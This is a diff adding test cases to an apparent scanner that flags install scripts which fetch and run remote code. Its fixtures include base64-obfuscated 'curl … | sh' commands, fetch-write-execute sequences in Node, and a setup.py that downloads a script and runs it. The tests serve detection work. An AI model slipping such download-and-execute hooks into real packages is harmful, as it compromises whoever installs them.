@@ -154,3 +154,66 @@ describe('a chain of scripts', () => {
     await expect(found({ 'setup.py': setup, 'native/get.sh': script })).resolves.toEqual(expected);
   });
 });
+
+const ADDRESS = "Buffer.from('aHR0cHM6Ly9jZG4ucmVsYXkubmV0L2E=', 'base64').toString()";
+const COMMAND = "Buffer.from('Y3VybCBodHRwczovL2Nkbi5yZWxheS5uZXQvYSB8IHNo', 'base64').toString()";
+const HEAD =
+  "const fs = require('node:fs');\nconst { execFileSync, execSync } = require('node:child_process');\n";
+const body = (...code: readonly string[]): string => `${HEAD}(async () => {\n${code.join('\n')}\n})();\n`;
+
+describe('code that runs what it fetches', () => {
+  it.each<readonly [string, string, readonly string[]]>([
+    [
+      'through a file',
+      body(
+        `const text = await (await fetch(${ADDRESS})).text();`,
+        "fs.writeFileSync('tools/agent.sh', text);",
+        "execSync('sh tools/agent.sh');",
+      ),
+      ['critical a.js:6'],
+    ],
+    [
+      'as a program',
+      body(
+        "const data = await (await fetch('https://cdn.relay.net/agent')).arrayBuffer();",
+        "fs.writeFileSync('./agent', Buffer.from(data));",
+        "execFileSync('./agent', ['--install']);",
+      ),
+      ['critical a.js:6'],
+    ],
+    ['by an encoded command', `${HEAD}execSync(${COMMAND});\n`, ['critical a.js:3']],
+    ['from an encoded address', `${HEAD}execSync(\`curl \${${ADDRESS}} | sh\`);\n`, ['critical a.js:3']],
+    [
+      'after a look at its digest',
+      body(
+        "const { createHash } = require('node:crypto');",
+        "const data = Buffer.from(await (await fetch('https://cdn.relay.net/agent')).arrayBuffer());",
+        "if (createHash('sha256').update(data).digest('hex') !== 'a3f1') throw new Error('differs');",
+        "fs.writeFileSync('./agent', data);",
+        "execFileSync('./agent', ['--install']);",
+      ),
+      [],
+    ],
+    [
+      'not: it runs another file',
+      body(
+        "const data = await (await fetch('https://cdn.relay.net/words.txt')).text();",
+        "fs.writeFileSync('words.txt', data);",
+        "execSync('node index.js');",
+      ),
+      ['medium a.js:4'],
+    ],
+  ])('%s', async (_, code, expected) => {
+    expect(await npm({ postinstall: 'node a.js' }, { 'a.js': code })).toEqual(expected);
+  });
+
+  it('is found in setup.py', async () => {
+    const code = [
+      'import base64, os, urllib.request',
+      'address = base64.b64decode("aHR0cHM6Ly9jZG4ucmVsYXkubmV0L2E=").decode()',
+      'urllib.request.urlretrieve(address, "/tmp/agent.py")',
+      'os.system("python3 /tmp/agent.py")',
+    ];
+    expect(await found({ 'setup.py': `${code.join('\n')}\n` })).toEqual(['critical setup.py:4']);
+  });
+});
